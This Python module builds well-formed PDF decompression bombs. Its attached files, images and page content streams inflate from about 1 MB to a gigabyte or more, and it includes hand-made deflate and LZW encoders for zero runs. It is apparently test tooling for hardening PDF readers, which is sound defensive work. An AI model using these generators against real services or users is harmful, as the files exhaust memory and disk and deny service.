"""Hand-written PDFs that attack the reader: decompression bombs in every place a PDF has streams.

A PDF library would refuse to write these (or would need the gigabyte in memory first); this
writer streams the compression, so a 1 GiB bomb is built in about a second and 1 MB. Each file
is a real, well-formed PDF (objects, cross-reference table, trailer) that pdfium opens.
"""

from __future__ import annotations

import functools
import struct
import zlib

MIB = 1024 * 1024
GIB = 1024 * MIB
A4 = "[0 0 595 842]"


def deflate_zeros(size: int, *, rounds: int = 1) -> bytes:
    """A zlib stream of ``size`` zero bytes, deflated ``rounds`` times (each round shrinks the
    last about 1000:1).

    Deflating a gigabyte takes seconds, so one flushed block of 1 MiB of zeros is made once
    and repeated: after a full flush a deflate block stands alone, and the Adler-32 of ``n``
    zeros is ``(n mod 65521) << 16 | 1``.
    """
    whole, rest = divmod(size, MIB)
    blocks = [_zero_block(MIB)] * whole + ([_zero_block(rest)] if rest else [])
    adler = ((size % 65521) << 16) | 1
    data = b"\x78\xda" + b"".join(blocks) + b"\x03\x00" + struct.pack(">I", adler)
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return data


@functools.cache
def _zero_block(size: int) -> bytes:
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    return raw.compress(bytes(size)) + raw.flush(zlib.Z_FULL_FLUSH)


class PdfBuilder:
    """Objects numbered from 1 in the order they are added; ``bytes()`` writes the file."""

    def __init__(self) -> None:
        self._objects: list[bytes] = []

    def add(self, dictionary: str, stream: bytes | None = None) -> int:
        number = len(self._objects) + 1
        body = f"{number} 0 obj\n{dictionary}\n".encode("latin-1")
        if stream is not None:
            body += b"stream\n" + stream + b"\nendstream\n"
        self._objects.append(body + b"endobj\n")
        return number

    def reserve(self) -> int:
        """A number for an object added later with ``put`` (for references that point ahead)."""
        self._objects.append(b"")
        return len(self._objects)

    def put(self, number: int, dictionary: str, stream: bytes | None = None) -> None:
        body = f"{number} 0 obj\n{dictionary}\n".encode("latin-1")
        if stream is not None:
            body += b"stream\n" + stream + b"\nendstream\n"
        self._objects[number - 1] = body + b"endobj\n"

    def __bytes__(self) -> bytes:
        out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets = []
        for body in self._objects:
            offsets.append(len(out))
            out += body
        xref = len(out)
        out += f"xref\n0 {len(self._objects) + 1}\n0000000000 65535 f \n".encode()
        for offset in offsets:
            out += f"{offset:010d} 00000 n \n".encode()
        out += (f"trailer\n<< /Size {len(self._objects) + 1} /Root 1 0 R >>\n"
                f"startxref\n{xref}\n%%EOF\n").encode()
        return bytes(out)


def attachment_bomb(inflated: int = GIB, *, rounds: int = 1, name: str = "bomb.json") -> bytes:
    """One blank page and one attached file whose stream inflates to ``inflated`` bytes."""
    builder = PdfBuilder()
    catalog = builder.reserve()
    data = deflate_zeros(inflated, rounds=rounds)
    filters = " ".join(["/FlateDecode"] * rounds)
    stream = builder.add(f"<< /Type /EmbeddedFile /Filter [{filters}] /Length {len(data)} >>",
                         data)
    spec = builder.add(f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F {stream} 0 R >> >>")
    tree = builder.reserve()
    content = b"0 0 m 10 10 l S"
    contents = builder.add(f"<< /Length {len(content)} >>", content)
    page = builder.add(f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << >> "
                       f"/Contents {contents} 0 R >>")
    builder.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    builder.put(catalog, f"<< /Type /Catalog /Pages {tree} 0 R /Names << /EmbeddedFiles "
                         f"<< /Names [({name}) {spec} 0 R] >> >> >>")
    return bytes(builder)


def image_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """One page drawing a greyscale image that declares ``width`` × ``height`` pixels, its
    samples a zero-filled flate stream (1.6 GB decoded at the defaults)."""
    builder = PdfBuilder()
    catalog, tree = builder.reserve(), builder.reserve()
    data = deflate_zeros(width * height)
    image = builder.add(f"<< /Type /XObject /Subtype /Image /Width {width} /Height {height} "
                        f"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode "
                        f"/Length {len(data)} >>", data)
    content = b"q 500 0 0 700 40 70 cm /Im0 Do Q"
    contents = builder.add(f"<< /Length {len(content)} >>", content)
    page = builder.add(f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} "
                       f"/Resources << /XObject << /Im0 {image} 0 R >> >> "
                       f"/Contents {contents} 0 R >>")
    builder.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    builder.put(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return bytes(builder)


def content_bomb(inflated: int = GIB) -> bytes:
    """One page whose content stream inflates to ``inflated`` bytes of spaces' worth (zeros)."""
    builder = PdfBuilder()
    catalog, tree = builder.reserve(), builder.reserve()
    data = deflate_zeros(inflated)
    contents = builder.add(f"<< /Filter /FlateDecode /Length {len(data)} >>", data)
    page = builder.add(f"<< /Type /Page /Parent {tree} 0 R /MediaBox {A4} /Resources << >> "
                       f"/Contents {contents} 0 R >>")
    builder.put(tree, f"<< /Type /Pages /Kids [{page} 0 R] /Count 1 >>")
    builder.put(catalog, f"<< /Type /Catalog /Pages {tree} 0 R >>")
    return bytes(builder)


def lzw_zeros(size: int) -> bytes:
    """``size`` zero bytes as PDF LZW codes (EarlyChange 1), made without an encoder's loop.

    LZW on a run of zeros emits 0, then codes 258, 259, … standing for 2, 3, … zeros until the
    table is full (code 4095: 3,839 zeros), then code 4095 again and again; a final code covers
    what is left, then end-of-data. The code width grows as a reader's table does.
    """
    codes = [256]  # clear
    left, code = size, 0
    if left:
        codes.append(0)
        left -= 1
    code = 258
    while left > 0:
        length = min(code - 256, 3839)
        if length > left:
            break
        codes.append(min(code, 4095))
        left -= length
        code += 1
    codes += [0] * left  # the rest, one zero per code (a reader adds entries, harmlessly)
    codes.append(257)
    out, buffer, held, width, table = bytearray(), 0, 0, 9, 258
    for index, value in enumerate(codes):
        buffer, held = (buffer << width) | value, held + width
        while held >= 8:
            held -= 8
            out.append((buffer >> held) & 0xFF)
        buffer &= (1 << held) - 1
        if value == 256:
            width, table = 9, 258
            continue
        if index > 1 and table < 4096:  # a reader adds an entry for each code after the first
            table += 1
        if table + 1 >= 1 << width and width < 12:
            width += 1
    if held:
        out.append((buffer << (8 - held)) & 0xFF)
    return bytes(out)
